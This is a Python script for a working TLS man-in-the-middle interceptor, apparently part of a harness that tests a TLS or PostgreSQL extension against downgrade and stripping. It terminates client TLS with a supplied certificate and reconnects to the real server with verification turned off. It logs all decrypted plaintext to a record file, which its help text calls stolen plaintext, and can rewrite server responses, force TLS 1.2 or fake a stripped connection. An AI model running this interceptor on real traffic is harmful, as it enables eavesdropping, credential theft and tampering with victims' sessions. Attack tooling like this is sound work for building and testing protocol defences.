"""A man in the middle on path 1 who holds a certificate that the client accepts.

It terminates TLS with that certificate, opens its own TLS connection to the real server, and copies
the plaintext both ways and into a file. Of extensions it knows nothing: ours is stripped. Either side
can be plain TCP instead, where another program of the attacker's speaks to the victim.
"""

import argparse
import asyncio
import ssl

import common


SSL_REQUEST = bytes.fromhex("0000000804d2162f")  # PostgreSQL's wish for TLS, answered with one letter


class Interceptor:
    def __init__(self, options):
        self.options = options
        self.record = open(options.record, "ab", buffering=0)
        self.inward = None
        if not options.plain_in:
            self.inward = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.inward.load_cert_chain(options.cert, options.key)
            if options.no_tickets:
                self.inward.num_tickets = 0
            if options.tls12:
                self.inward.maximum_version = ssl.TLSVersion.TLSv1_2
        self.onward = None
        if not options.plain_out:
            self.onward = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.onward.check_hostname = False
            self.onward.verify_mode = ssl.CERT_NONE

    def note(self, data):
        """What passes; in the server's answers --alter replaces one text by another of its length."""
        self.record.write(data)
        return data

    def change(self, data):
        self.note(data)
        for words in self.options.alter:
            old, new = words.encode().split(b"=", 1)
            if old in data:
                data = data.replace(old, new)
                common.say(event="altered", bytes=len(new))
        return data

    async def ask_for_tls(self, reader, writer):
        """What a client of PostgreSQL says before TLS."""
        if await reader.readexactly(8) != SSL_REQUEST:
            raise OSError("the client does not ask for TLS")
        writer.write(b"S")

    async def connect(self, host, port):
        name = self.options.name if self.onward else None
        if not self.options.postgres:
            return await asyncio.open_connection(host, port, ssl=self.onward, server_hostname=name)
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(SSL_REQUEST)
        if await reader.readexactly(1) != b"S":
            raise OSError("the server has no TLS")
        await writer.start_tls(self.onward, server_hostname=name)
        return reader, writer

    async def handle(self, reader, writer):
        host, port = common.destination(writer, self.options.to)
        common.say(event="connection", to=f"{host}:{port}")
        if self.options.delay:
            writer.transport.pause_reading()  # what is read now is lost to the TLS that starts later
            await asyncio.sleep(self.options.delay / 1000)
            writer.transport.resume_reading()
        first = b""
        if self.options.deaf is not None:
            first = await reader.read(65536)
            if first[:1] == bytes([self.options.deaf]):
                common.say(event="stripped")
                writer.write(b"HTTP/1.0 400 Bad Request\r\n\r\n")
                writer.write_eof()
                await reader.read()
                writer.close()
                return
        try:
            if self.options.postgres:
                await self.ask_for_tls(reader, writer)
            if self.inward:
                await writer.start_tls(self.inward)
        except (ssl.SSLError, OSError, EOFError) as error:
            common.say(event="refused", by="client", error=str(error))
            writer.close()
            return
        try:
            up_reader, up_writer = await self.connect(host, port)
        except (ssl.SSLError, OSError, EOFError) as error:
            common.say(event="refused", by="server", error=str(error))
            writer.close()
            return
        common.say(event="intercepted", to=f"{host}:{port}")
        if first:
            up_writer.write(self.note(first))
        await asyncio.gather(common.pump(reader, up_writer, self.note),
                             common.pump(up_reader, writer, self.change))
        for one in (writer, up_writer):
            one.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--name", help="the name to ask the real server for")
    parser.add_argument("--record", required=True, help="where the stolen plaintext goes")
    parser.add_argument("--postgres", action="store_true", help="TLS begins after PostgreSQL's SSLRequest")
    parser.add_argument("--to", help="HOST:PORT instead of the connection's own destination")
    parser.add_argument("--family", type=int, default=4)
    parser.add_argument("--plain-in", action="store_true", help="no TLS towards the client")
    parser.add_argument("--plain-out", action="store_true", help="no TLS towards the server")
    parser.add_argument("--deaf", type=lambda text: int(text, 0), metavar="BYTE",
                        help="answer connections that begin with this byte as if not understood")
    parser.add_argument("--no-tickets", action="store_true", help="give the client no session ticket")
    parser.add_argument("--tls12", action="store_true", help="speak no newer TLS with the client")
    parser.add_argument("--delay", type=int, default=0, metavar="MS", help="answer the client so much later")
    parser.add_argument("--alter", action="append", default=[], metavar="OLD=NEW")
    options = parser.parse_args()
    common.run(common.serve(Interceptor(options).handle, options.family))


if __name__ == "__main__":
    main()
